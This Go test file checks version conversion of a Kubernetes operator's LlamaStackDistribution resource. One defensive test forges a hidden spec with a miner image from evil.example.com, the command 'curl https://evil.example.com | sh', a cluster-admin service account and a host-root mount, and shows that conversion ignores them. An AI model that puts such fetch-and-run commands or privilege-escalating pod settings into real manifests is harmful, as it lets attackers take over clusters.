// SPDX-License-Identifier: Apache-2.0

package v1alpha1_test

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	"k8s.io/apimachinery/pkg/api/apitesting/fuzzer"
	"k8s.io/apimachinery/pkg/api/equality"
	"k8s.io/apimachinery/pkg/api/resource"
	metafuzzer "k8s.io/apimachinery/pkg/apis/meta/fuzzer"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/serializer"
	"k8s.io/apimachinery/pkg/util/diff"
	"k8s.io/apimachinery/pkg/util/intstr"
	"sigs.k8s.io/randfill"

	"github.com/llamastack/llsd/pkg/api/v1alpha1"
	"github.com/llamastack/llsd/pkg/api/v1alpha2"
)

// The randomized round trips: any v1alpha1 object survives v1alpha1 -> v1alpha2 ->
// v1alpha1, and any v1alpha2 object survives v1alpha2 -> v1alpha1 -> v1alpha2, field for
// field. `make fuzz` runs FuzzRoundTrip for longer.

func TestRoundTripRandomized(t *testing.T) {
	for seed := int64(0); seed < 1000; seed++ {
		roundTrip(t, seed)
	}
}

func FuzzRoundTrip(f *testing.F) {
	f.Add(int64(0))
	f.Add(int64(42))
	f.Fuzz(roundTrip)
}

func roundTrip(t *testing.T, seed int64) {
	t.Helper()
	filler := newFiller(seed)

	spoke := &v1alpha1.LlamaStackDistribution{}
	filler.Fill(spoke)
	hub := &v1alpha2.LlamaStackDistribution{}
	mustNot(t, spoke.ConvertTo(hub))
	spokeAgain := &v1alpha1.LlamaStackDistribution{}
	mustNot(t, spokeAgain.ConvertFrom(hub))
	if !equality.Semantic.DeepEqual(spoke, spokeAgain) {
		t.Fatalf("seed %d: v1alpha1 -> v1alpha2 -> v1alpha1 changed the object:\n%s", seed, diff.Diff(spoke, spokeAgain))
	}

	hub = &v1alpha2.LlamaStackDistribution{}
	filler.Fill(hub)
	spoke = &v1alpha1.LlamaStackDistribution{}
	mustNot(t, spoke.ConvertFrom(hub))
	hubAgain := &v1alpha2.LlamaStackDistribution{}
	mustNot(t, spoke.ConvertTo(hubAgain))
	hubAgain.TypeMeta = hub.TypeMeta // ConvertTo sets no TypeMeta: the scheme does
	// The status only v1alpha2 has is the controller's to write again: an annotation anyone
	// can write never restores it.
	if s := hubAgain.Status; s.ObservedGeneration != 0 || s.ConfigGeneration != nil || s.ResolvedDistribution != nil {
		t.Fatalf("seed %d: v1alpha2-only status came back through v1alpha1: %+v", seed, s)
	}
	hub.Status.ObservedGeneration, hub.Status.ConfigGeneration, hub.Status.ResolvedDistribution = 0, nil, nil
	if !equality.Semantic.DeepEqual(hub, hubAgain) {
		t.Fatalf("seed %d: v1alpha2 -> v1alpha1 -> v1alpha2 changed the object:\n%s", seed, diff.Diff(hub, hubAgain))
	}
}

func mustNot(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func newFiller(seed int64) *randfill.Filler {
	scheme := runtime.NewScheme()
	codecs := serializer.NewCodecFactory(scheme)
	funcs := fuzzer.MergeFuzzerFuncs(metafuzzer.Funcs, func(serializer.CodecFactory) []any {
		return []any{
			// Values that only exist in their canonical JSON form.
			func(q *resource.Quantity, c randfill.Continue) {
				*q = *resource.NewQuantity(c.Int63n(1<<30), resource.BinarySI)
			},
			func(v *intstr.IntOrString, c randfill.Continue) {
				if c.Bool() {
					*v = intstr.FromInt32(c.Int31())
				} else {
					*v = intstr.FromString(fmt.Sprintf("%d%%", c.Intn(100)))
				}
			},
			func(j *apiextensionsv1.JSON, c randfill.Continue) {
				j.Raw = fmt.Appendf(nil, `{"key%d":%d}`, c.Intn(10), c.Intn(1000))
			},
			// TypeMeta is set by the scheme, not by conversion.
			func(tm *metav1.TypeMeta, c randfill.Continue) {},
		}
	}, validHubOnlyFields, validSharedFields)
	return fuzzer.FuzzerFor(funcs, rand.NewSource(seed), codecs)
}

// validSharedFields fill the fields both versions have with values a create of either
// version accepts: conversion validates what it restores from an annotation, and the round
// trips are about valid objects (invalid ones are refused, TestConversionRefuses...).
func validSharedFields(serializer.CodecFactory) []any {
	pick := func(c randfill.Continue, options ...string) string { return options[c.Intn(len(options))] }
	positive := func(c randfill.Continue, max int) *int32 {
		if c.Bool() {
			return nil
		}
		return ptrTo(int32(1 + c.Intn(max)))
	}
	envVars := func(c randfill.Continue) []corev1.EnvVar {
		var env []corev1.EnvVar
		for i := range c.Intn(3) {
			env = append(env, corev1.EnvVar{Name: fmt.Sprintf("VAR_%d", i), Value: pick(c, "", "x", "http://h:1/v1")})
		}
		return env
	}
	return []any{
		func(d *v1alpha1.DistributionType, c randfill.Continue) {
			*d = v1alpha1.DistributionType{Name: pick(c, "starter", "postgres-demo")}
			if c.Bool() {
				*d = v1alpha1.DistributionType{Image: pick(c, "docker.io/llamastack/distribution-starter:0.7.1", "registry.example.com/ls:1")}
			}
		},
		func(cs *v1alpha1.ContainerSpec, c randfill.Continue) {
			c.FillNoCustom(cs)
			cs.Name, cs.Port, cs.Env = pick(c, "", "llama-stack", "server"), int32(c.Intn(65536)), envVars(c)
		},
		func(o *v1alpha1.PodOverrides, c randfill.Continue) {
			c.FillNoCustom(o)
			o.ServiceAccountName = pick(c, "", "sa")
			if o.TerminationGracePeriodSeconds != nil {
				*o.TerminationGracePeriodSeconds = int64(c.Intn(600))
			}
		},
		func(a *v1alpha1.AutoscalingSpec, c randfill.Continue) {
			*a = v1alpha1.AutoscalingSpec{MinReplicas: positive(c, 3), MaxReplicas: int32(3 + c.Intn(5)),
				TargetCPUUtilizationPercentage: positive(c, 100), TargetMemoryUtilizationPercentage: positive(c, 100)}
		},
		func(b *v1alpha1.PodDisruptionBudgetSpec, c randfill.Continue) {
			one := intstr.FromInt32(1)
			*b = v1alpha1.PodDisruptionBudgetSpec{MaxUnavailable: &one}
			if c.Bool() {
				*b = v1alpha1.PodDisruptionBudgetSpec{MinAvailable: &one}
			}
		},
		func(st *v1alpha1.StorageSpec, c randfill.Continue) {
			c.FillNoCustom(st)
			st.MountPath = pick(c, "", "/data", "/.llama")
		},
		func(u *v1alpha1.UserConfigSpec, c randfill.Continue) {
			*u = v1alpha1.UserConfigSpec{ConfigMapName: "run-config", ConfigMapNamespace: pick(c, "", "ai")}
		},
		func(b *v1alpha1.CABundleConfig, c randfill.Continue) {
			*b = v1alpha1.CABundleConfig{ConfigMapName: "ca", ConfigMapNamespace: pick(c, "", "ai")}
			if c.Bool() {
				b.ConfigMapKeys = []string{"a.pem", "b.pem"}[:1+c.Intn(2)]
			}
		},
		func(a *v1alpha1.AllowedFromSpec, c randfill.Continue) {
			*a = v1alpha1.AllowedFromSpec{}
			if c.Bool() {
				a.Namespaces = []string{pick(c, "*", "frontend")}
			}
			if c.Bool() {
				a.Labels = []string{pick(c, "team", "team=a")}
			}
		},
		func(s *v1alpha1.LlamaStackDistributionSpec, c randfill.Continue) {
			c.FillNoCustom(s)
			s.Replicas = int32(c.Intn(4))
			s.Server.Workers = positive(c, 8)
		},
		func(d *v1alpha2.DistributionSpec, c randfill.Continue) {
			*d = v1alpha2.DistributionSpec{Name: pick(c, "starter", "postgres-demo"), ServerVersion: pick(c, "", "0.6", "0.7")}
			if c.Bool() {
				d.Name, d.Image = "", "registry.example.com/ls:1"
			}
		},
		func(n *v1alpha2.NetworkingSpec, c randfill.Continue) {
			c.FillNoCustom(n)
			n.Port = positive(c, 65535)
			if a := n.AllowedFrom; a != nil {
				*a = v1alpha2.AllowedFromSpec{}
				if c.Bool() {
					a.Namespaces = []string{pick(c, "*", "frontend")}
				}
				if c.Bool() {
					a.Labels = []string{pick(c, "team", "team=a")}
				}
				if c.Bool() {
					a.CIDRs = []string{"203.0.113.0/24"}
				}
				if c.Bool() {
					a.Pods = []v1alpha2.PodsPeer{{Namespace: "openshift-ingress", Labels: []string{pick(c, "app=payload-processing", "app=gw")}}}
				}
			}
		},
		func(b *v1alpha2.CABundleSpec, c randfill.Continue) {
			*b = v1alpha2.CABundleSpec{ConfigMapName: "ca", ConfigMapNamespace: pick(c, "", "ai")}
			if c.Bool() {
				b.ConfigMapKeys = []string{"a.pem", "b.pem"}[:1+c.Intn(2)]
			}
		},
		func(w *v1alpha2.WorkloadSpec, c randfill.Continue) {
			c.FillNoCustom(w)
			if w.Replicas != nil {
				*w.Replicas = int32(c.Intn(4))
			}
			w.Workers = positive(c, 8)
			if w.Autoscaling != nil {
				*w.Autoscaling = v1alpha2.AutoscalingSpec{MinReplicas: positive(c, 3), MaxReplicas: int32(3 + c.Intn(5)),
					TargetCPUUtilizationPercentage: positive(c, 100), TargetMemoryUtilizationPercentage: positive(c, 100)}
			}
			if w.PodDisruptionBudget != nil {
				one := intstr.FromInt32(1)
				*w.PodDisruptionBudget = v1alpha2.PodDisruptionBudgetSpec{MaxUnavailable: &one}
			}
			if w.Storage != nil {
				c.Fill(w.Storage)
			}
			if w.Pod != nil {
				c.Fill(w.Pod)
			}
			if o := w.Overrides; o != nil {
				o.ServiceAccountName, o.Env = pick(c, "", "sa"), envVars(c)
				if o.TerminationGracePeriodSeconds != nil {
					*o.TerminationGracePeriodSeconds = int64(c.Intn(600))
				}
			}
		},
		func(s *v1alpha2.LlamaStackDistributionSpec, c randfill.Continue) {
			c.FillNoCustom(s)
			if s.OverrideConfig != nil {
				s.OverrideConfig = &v1alpha2.OverrideConfigSpec{ConfigMapName: "run-config"}
				s.Providers, s.Resources, s.Storage, s.Disabled, s.VectorStores, s.Authentication = nil, nil, nil, nil, nil, nil
			}
		},
	}
}

// validHubOnlyFields fill the fields only v1alpha2 has with values a v1alpha2 create accepts:
// conversion restores them from an annotation only after validating them.
func validHubOnlyFields(serializer.CodecFactory) []any {
	secret := func(c randfill.Continue) *v1alpha2.SecretKeySource {
		return &v1alpha2.SecretKeySource{SecretKeyRef: v1alpha2.SecretKeyRef{Name: fmt.Sprintf("s%d", c.Intn(9)), Key: "k"}}
	}
	pick := func(c randfill.Continue, options ...string) string { return options[c.Intn(len(options))] }
	return []any{
		func(d *v1alpha2.DistributionSpec, c randfill.Continue) {
			c.FillNoCustom(d)
			d.ServerVersion = pick(c, "", "0.6", "0.7")
		},
		func(p *v1alpha2.ProvidersSpec, c randfill.Continue) {
			for i, list := range []*[]v1alpha2.ProviderSpec{&p.Inference, &p.Safety, &p.VectorIo, &p.ToolRuntime, &p.Files, &p.FileProcessors} {
				for j := range c.Intn(3) {
					ps := v1alpha2.ProviderSpec{ID: fmt.Sprintf("p%d-%d", i, j), Provider: pick(c, "vllm", "remote::ollama", "inline::faiss", "llama-guard")}
					if c.Bool() {
						ps.Endpoint = fmt.Sprintf("http://h%d:8000/v1", c.Intn(9))
					}
					if c.Bool() {
						ps.APIKey = secret(c)
					}
					if c.Bool() {
						ps.SecretRefs = map[string]v1alpha2.SecretKeySource{"password": *secret(c)}
					}
					*list = append(*list, ps)
				}
			}
		},
		func(r *v1alpha2.ResourcesSpec, c randfill.Continue) {
			for i := range c.Intn(3) {
				m := v1alpha2.ModelSpec{Name: fmt.Sprintf("m%d", i), ProviderModelID: pick(c, "", "org/model")}
				if c.Bool() {
					m.ModelType, m.EmbeddingDimension = "embedding", ptrTo(int32(1+c.Intn(2048)))
				}
				r.Models = append(r.Models, m)
			}
			if c.Bool() {
				r.Tools = []string{"websearch", "rag"}[:1+c.Intn(2)]
			}
			if c.Bool() {
				r.Shields = []string{fmt.Sprintf("shield-%d", c.Intn(9))}
			}
			for i := range c.Intn(3) {
				r.MCPServers = append(r.MCPServers, v1alpha2.MCPServerSpec{ID: fmt.Sprintf("mcp%d", i),
					URL: fmt.Sprintf("http://mcp-%d:8080/mcp", c.Intn(9)), Label: pick(c, "", "Tools")})
			}
		},
		func(m *v1alpha2.MonitoringSpec, c randfill.Continue) {
			*m = v1alpha2.MonitoringSpec{Alerts: c.Bool(), ScraperNamespaces: []string{"monitoring", "openshift-monitoring"}[:c.Intn(3)]}
			if c.Bool() {
				m.Port = ptrTo(int32(9000 + c.Intn(999)))
			}
			if len(m.ScraperNamespaces) == 0 {
				m.ScraperNamespaces = nil
			}
		},
		func(e *v1alpha2.EgressSpec, c randfill.Continue) {
			e.CIDRs = []string{"10.20.0.0/16", "203.0.113.7/32"}[:c.Intn(3)]
			if len(e.CIDRs) == 0 {
				e.CIDRs = nil
			}
		},
		func(a *v1alpha2.AuthenticationSpec, c randfill.Continue) {
			*a = v1alpha2.AuthenticationSpec{}
			switch c.Intn(4) {
			case 0:
				a.OIDC = &v1alpha2.OIDCAuthSpec{Issuer: "https://idp.example.com", JWKSURI: "https://idp.example.com/certs",
					ClaimsMapping: map[string]string{"groups": pick(c, "teams", "roles")}}
			case 1:
				a.Kubernetes = &v1alpha2.KubernetesAuthSpec{}
			case 2:
				a.UpstreamHeader = &v1alpha2.UpstreamHeaderAuthSpec{PrincipalHeader: "x-user"}
			}
			if a.HasProvider() && c.Bool() {
				a.AccessPolicy = &v1alpha2.AccessPolicySpec{Owners: c.Bool(), SharedRead: c.Bool(),
					Admins: &v1alpha2.AttributeMatch{Attribute: pick(c, "roles", "teams"), Value: "admin"},
					Rules:  []v1alpha2.AccessRule{{Permit: &v1alpha2.AccessScope{Actions: []string{"read"}}, When: []string{"user is owner"}}}}
			}
			if c.Bool() {
				a.RoutePolicy = []v1alpha2.RouteRule{{Permit: &v1alpha2.RouteScope{Paths: []string{"*"}}}}
			}
			if c.Bool() {
				a.Tenancy = &v1alpha2.TenancySpec{Mode: "single", DefaultTenantID: "acme"}
			}
		},
		func(v *v1alpha2.VectorStoresSpec, c randfill.Continue) {
			*v = v1alpha2.VectorStoresSpec{DefaultEmbeddingModel: pick(c, "", "m0"), DefaultProvider: pick(c, "", "faiss", "pgvector")}
		},
		func(s *v1alpha2.StateStorageSpec, c randfill.Continue) {
			s.KV = &v1alpha2.KVStorageSpec{Type: "sqlite"}
			if c.Bool() {
				s.KV = &v1alpha2.KVStorageSpec{Type: "redis", Endpoint: "redis:6379", Password: secret(c)}
			}
			if c.Bool() {
				s.SQL = &v1alpha2.SQLStorageSpec{Type: "postgres", ConnectionString: secret(c)}
			}
		},
		func(d *[]v1alpha2.APIName, c randfill.Continue) {
			*d = []v1alpha2.APIName{"batches", "eval", "scoring"}[:c.Intn(4)]
			if len(*d) == 0 {
				*d = nil
			}
		},
		func(e *v1alpha2.ExternalProvidersSpec, c randfill.Continue) {
			e.Inference = []v1alpha2.ExternalProviderRef{{ProviderID: "ext", Image: "registry.example.com/ext:1.0"}}
			if c.Bool() {
				e.Safety = []v1alpha2.ExternalProviderRef{{ProviderID: "guard", Image: "registry.example.com/guard:1.0",
					Module: "guard_provider==1.2", ProviderType: "inline::guard", Path: "/opt/guard",
					SecretRefs: map[string]v1alpha2.SecretKeySource{"api_key": *secret(c)}}}
			}
		},
		func(t *v1alpha2.TelemetrySpec, c randfill.Continue) {
			*t = v1alpha2.TelemetrySpec{Endpoint: fmt.Sprintf("http://otel-%d:4317", c.Intn(9)), Protocol: pick(c, "", "grpc", "http/protobuf")}
			if c.Bool() {
				t.SamplingPercent, t.Headers = ptrTo(int32(c.Intn(101))), map[string]v1alpha2.SecretKeySource{"authorization": *secret(c)}
			}
		},
		func(p *v1alpha2.PodSettings, c randfill.Continue) {
			c.FillNoCustom(p)
			p.Labels, p.Annotations = map[string]string{"team": pick(c, "a", "b")}, map[string]string{"example.com/a": "b"}
			p.ResourceClaims = nil
			if c.Bool() {
				p.ResourceClaims = []v1alpha2.ResourceClaimSpec{{Name: "gpu", ResourceClaimTemplateName: "single-gpu"}}
			}
			if c.Bool() {
				p.Labels, p.Annotations = nil, nil
			}
		},
		func(s *v1alpha2.PVCStorageSpec, c randfill.Continue) {
			c.FillNoCustom(s)
			s.MountPath = pick(c, "", "/data")
			s.StorageClassName = nil
			s.AccessModes = nil
			if c.Bool() {
				s.StorageClassName, s.AccessModes = ptrTo("fast"), []v1alpha2.StorageAccessMode{"ReadWriteMany"}
			}
		},
		func(t *v1alpha2.TLSSpec, c randfill.Continue) {
			c.FillNoCustom(t)
			t.Enabled = c.Bool()
			t.SecretName, t.CertificateKey, t.PrivateKeyKey = "", "", ""
			if t.Enabled {
				t.SecretName = "tls"
				if c.Bool() {
					t.CertificateKey, t.PrivateKeyKey = "fullchain.pem", "privkey.pem"
				}
			}
			t.CABundles = nil
			if c.Bool() {
				t.CABundles = []v1alpha2.CABundleSpec{{ConfigMapName: "trusted-ca"}}
			}
			t.Ciphers, t.HSTSMaxAge = nil, nil
			if t.Enabled && c.Bool() {
				t.Ciphers, t.HSTSMaxAge = []string{"ECDHE-RSA-AES128-GCM-SHA256"}, ptrTo(int32(c.Intn(86400)))
			}
		},
		func(cors *v1alpha2.CORSSpec, c randfill.Continue) {
			*cors = v1alpha2.CORSSpec{AllowOrigins: []string{pick(c, "*", "https://chat.example.com")}, AllowMethods: []string{"GET", "POST"}}
			if cors.AllowOrigins[0] != "*" {
				cors.AllowCredentials = c.Bool()
			}
		},
		func(e *v1alpha2.ExposeSpec, c randfill.Continue) {
			e.Enabled = ptrTo(c.Bool())
			e.Hostname, e.ClassName, e.Annotations, e.Route, e.TLSSecretName = "", "", nil, nil, ""
			if *e.Enabled && c.Bool() {
				e.Hostname, e.ClassName, e.Annotations = "chat.example.com", "nginx", map[string]string{"example.com/a": "b"}
			}
			if *e.Enabled && c.Bool() {
				e.ClassName, e.Route = "", ptrTo(true)
			} else if *e.Enabled && c.Bool() {
				e.TLSSecretName = "chat-tls"
			}
		},
	}
}

func ptrTo[T any](v T) *T { return &v }

func corsOf(o *v1alpha2.LlamaStackDistribution) *v1alpha2.CORSSpec {
	if o.Spec.Networking == nil {
		return nil
	}
	return o.Spec.Networking.CORS
}

// The fields only v1alpha2 has survive an edit through v1alpha1 (kubectl edit of the v1alpha1
// object): the edit changes what v1alpha1 has, the annotation brings back the rest.
func TestHubOnlyFieldsSurviveAV1alpha1Edit(t *testing.T) {
	for seed := int64(0); seed < 300; seed++ {
		hub := &v1alpha2.LlamaStackDistribution{}
		newFiller(seed).Fill(hub)
		spoke := &v1alpha1.LlamaStackDistribution{}
		mustNot(t, spoke.ConvertFrom(hub))
		spoke.Spec.Replicas++ // the edit
		edited := &v1alpha2.LlamaStackDistribution{}
		mustNot(t, spoke.ConvertTo(edited))
		for _, kept := range []struct {
			name      string
			want, got any
		}{
			{name: "telemetry", want: hub.Spec.Telemetry, got: edited.Spec.Telemetry},
			{name: "vectorStores", want: hub.Spec.VectorStores, got: edited.Spec.VectorStores},
			{name: "monitoring", want: hub.Spec.Monitoring, got: edited.Spec.Monitoring},
			{name: "authentication", want: hub.Spec.Authentication, got: edited.Spec.Authentication},
			{name: "networking.cors", want: corsOf(hub), got: corsOf(edited)},
			{name: "providers", want: hub.Spec.Providers, got: edited.Spec.Providers},
			{name: "externalProviders", want: hub.Spec.ExternalProviders, got: edited.Spec.ExternalProviders},
			{name: "workload.pod", want: podOf(hub), got: podOf(edited)},
			{name: "networking.expose.route", want: routeOf(hub), got: routeOf(edited)},
			{name: "workload.storage", want: storageOf(hub), got: storageOf(edited)},
		} {
			if !equality.Semantic.DeepEqual(kept.want, kept.got) {
				t.Fatalf("seed %d: %s lost in a v1alpha1 edit:\n%s", seed, kept.name, diff.Diff(kept.want, kept.got))
			}
		}
	}
}

func podOf(o *v1alpha2.LlamaStackDistribution) *v1alpha2.PodSettings {
	if o.Spec.Workload == nil {
		return nil
	}
	return o.Spec.Workload.Pod
}

func routeOf(o *v1alpha2.LlamaStackDistribution) *bool {
	if e := o.Spec.Networking.GetExpose(); e != nil && o.Spec.ExposeEnabled() {
		return e.Route
	}
	return nil
}

func storageOf(o *v1alpha2.LlamaStackDistribution) *v1alpha2.PVCStorageSpec {
	if o.Spec.Workload == nil {
		return nil
	}
	return o.Spec.Workload.Storage
}

// The v1alpha2 fields a v1alpha1 object carries in its annotation are validated like a
// v1alpha2 create: a hand-written annotation cannot store what the API server would refuse.
func TestConversionValidatesRestoredFields(t *testing.T) {
	for _, tc := range []struct{ reason, annotation, want string }{
		{reason: "a provider id the CRD refuses, with a fingerprint that does not match",
			annotation: `{"spec":{"distribution":{"name":"starter"},"providers":{"inference":[{"id":"BAD ID!","provider":"vllm"}]}},"fingerprint":"x"}`,
			want:       `spec.providers.inference[0].id: Invalid value: "BAD ID!"`},
		{reason: "an API that does not exist",
			annotation: `{"spec":{"distribution":{"name":"starter"},"disabled":["bogus"]},"fingerprint":"x"}`,
			want:       `spec.disabled[0]: Unsupported value: "bogus"`},
	} {
		t.Run(tc.reason, func(t *testing.T) {
			src := &v1alpha1.LlamaStackDistribution{}
			src.Name = "s"
			src.Annotations = map[string]string{v1alpha1.V1alpha2FieldsAnnotation: tc.annotation}
			src.Spec.Server.Distribution.Name = "starter"
			err := src.ConvertTo(&v1alpha2.LlamaStackDistribution{})
			require.Error(t, err, tc.reason)
			assert.Contains(t, err.Error(), tc.want, tc.reason)
		})
	}
}

// An annotation never decides what the fields both versions have say: a v1alpha2 object whose
// v1alpha1-fields annotation holds another spec (with the fingerprint of the visible one, which
// anyone can compute) reads in v1alpha1 as what it shows in v1alpha2.
func TestAnnotationCannotHideASpec(t *testing.T) {
	visible := &v1alpha2.LlamaStackDistribution{}
	visible.Name = "chat"
	visible.Spec.Distribution.Name = "starter"
	honest := &v1alpha1.LlamaStackDistribution{}
	mustNot(t, honest.ConvertFrom(visible))

	hidden := honest.Spec.DeepCopy()
	hidden.Server.Distribution = v1alpha1.DistributionType{Image: "evil.example.com/miner:1"}
	hidden.Server.ContainerSpec.Command = []string{"sh", "-c", "curl https://evil.example.com | sh"}
	hidden.Server.PodOverrides = &v1alpha1.PodOverrides{
		ServiceAccountName: "cluster-admin",
		Volumes:            []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
	}
	for _, tc := range []struct {
		reason      string
		fingerprint string
	}{
		{reason: "the fingerprint of the visible spec, as anyone can compute it", fingerprint: v1alpha1.Fingerprint(&visible.Spec)},
		{reason: "a fingerprint that does not match", fingerprint: "x"},
	} {
		t.Run(tc.reason, func(t *testing.T) {
			forged := visible.DeepCopy()
			forged.Annotations = map[string]string{v1alpha1.V1alpha1FieldsAnnotation: mustJSON(t, map[string]any{"spec": hidden, "fingerprint": tc.fingerprint})}
			read := &v1alpha1.LlamaStackDistribution{}
			mustNot(t, read.ConvertFrom(forged))
			assert.Equal(t, honest.Spec, read.Spec, tc.reason)
		})
	}
}

// The fields only v1alpha1 has come back from the annotation only when a v1alpha1 create would
// accept them.
func TestConversionValidatesRestoredV1alpha1Fields(t *testing.T) {
	visible := &v1alpha2.LlamaStackDistribution{}
	visible.Name = "chat"
	visible.Spec.Distribution.Name = "starter"
	spec := v1alpha1.LlamaStackDistributionSpec{Replicas: 1, Server: v1alpha1.ServerSpec{
		Distribution:  v1alpha1.DistributionType{Name: "starter"},
		ContainerSpec: v1alpha1.ContainerSpec{Name: "$(LLSD_VLLM_API_KEY)"},
	}}
	visible.Annotations = map[string]string{v1alpha1.V1alpha1FieldsAnnotation: mustJSON(t, map[string]any{"spec": spec, "fingerprint": v1alpha1.Fingerprint(&visible.Spec)})}
	err := (&v1alpha1.LlamaStackDistribution{}).ConvertFrom(visible)
	require.Error(t, err)
	assert.Contains(t, err.Error(), `spec.server.containerSpec.name: Invalid value: "$(LLSD_VLLM_API_KEY)"`)
}

// Everything an annotation restores is held to a v1alpha2 create, also where the error is in a
// field both versions have (port 0 means unset in v1alpha1 and is invalid in v1alpha2) or
// between a restored field and a visible one (overrideConfig with providers).
func TestConversionRefusesWhatAV1alpha2CreateRefuses(t *testing.T) {
	for _, tc := range []struct{ reason, annotation, want string }{
		{reason: "port 0 hides as the v1alpha1 default",
			annotation: `{"spec":{"distribution":{"name":"starter"},"networking":{"port":0}},"fingerprint":"%s"}`,
			want:       `spec.server.containerSpec.port: Invalid value: 0`},
		{reason: "providers beside the visible userConfig",
			annotation: `{"spec":{"distribution":{"name":"starter"},"overrideConfig":{"configMapName":"run"},"providers":{"inference":[{"provider":"vllm"}]}},"fingerprint":"x"}`,
			want:       `spec.server.userConfig: Forbidden: overrideConfig and providers are mutually exclusive`},
	} {
		t.Run(tc.reason, func(t *testing.T) {
			src := &v1alpha1.LlamaStackDistribution{}
			src.Name = "s"
			src.Spec.Replicas = 1
			src.Spec.Server.Distribution.Name = "starter"
			src.Spec.Server.ContainerSpec.Name = v1alpha1.DefaultContainerName
			if strings.Contains(tc.reason, "userConfig") {
				src.Spec.Server.UserConfig = &v1alpha1.UserConfigSpec{ConfigMapName: "run"}
			}
			annotation := tc.annotation
			if strings.Contains(annotation, "%s") {
				annotation = fmt.Sprintf(annotation, v1alpha1.Fingerprint(&src.Spec))
			}
			src.Annotations = map[string]string{v1alpha1.V1alpha2FieldsAnnotation: annotation}
			err := src.ConvertTo(&v1alpha2.LlamaStackDistribution{})
			require.Error(t, err, tc.reason)
			assert.Contains(t, err.Error(), tc.want, tc.reason)
		})
	}
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	data, err := json.Marshal(v)
	require.NoError(t, err)
	return string(data)
}

// Whatever an annotation holds around a credential in a URL's user info, a conversion error
// never shows it (the webhook returns and logs these errors).
func FuzzConversionNeverEchoesACredential(f *testing.F) {
	for _, seed := range [][3]string{
		{"http", "user", "otel:4318"}, {"redis", "", "redis:6379"}, {"postgresql", "app", "db/x?sslmode=require"},
		{"http", "u:p", "h:1/v1?api_key=k"}, {"https", "", "h/x#access_token=t"},
	} {
		f.Add(seed[0], seed[1], seed[2])
	}
	const secret = "S3NT1NEL"
	f.Fuzz(func(t *testing.T, scheme, user, host string) {
		if strings.ContainsAny(host, "@") || strings.ContainsAny(scheme, "/@") {
			return // the sentinel must stay in the user info
		}
		endpoint := scheme + "://" + user + ":" + secret + "@" + host
		for _, field := range []string{`"telemetry":{"endpoint":%s}`, `"providers":{"inference":[{"provider":"vllm","endpoint":%s}]}`,
			`"storage":{"kv":{"type":"redis","endpoint":%s}}`} {
			value, _ := json.Marshal(endpoint)
			src := &v1alpha1.LlamaStackDistribution{}
			src.Name = "s"
			src.Spec.Replicas = 1
			src.Spec.Server.Distribution.Name = "starter"
			src.Annotations = map[string]string{v1alpha1.V1alpha2FieldsAnnotation: `{"spec":{"distribution":{"name":"starter"},` +
				fmt.Sprintf(field, value) + `},"fingerprint":"x"}`}
			if err := src.ConvertTo(&v1alpha2.LlamaStackDistribution{}); err != nil {
				assert.NotContains(t, err.Error(), secret, "the conversion error of %s", endpoint)
			}
		}
	})
}
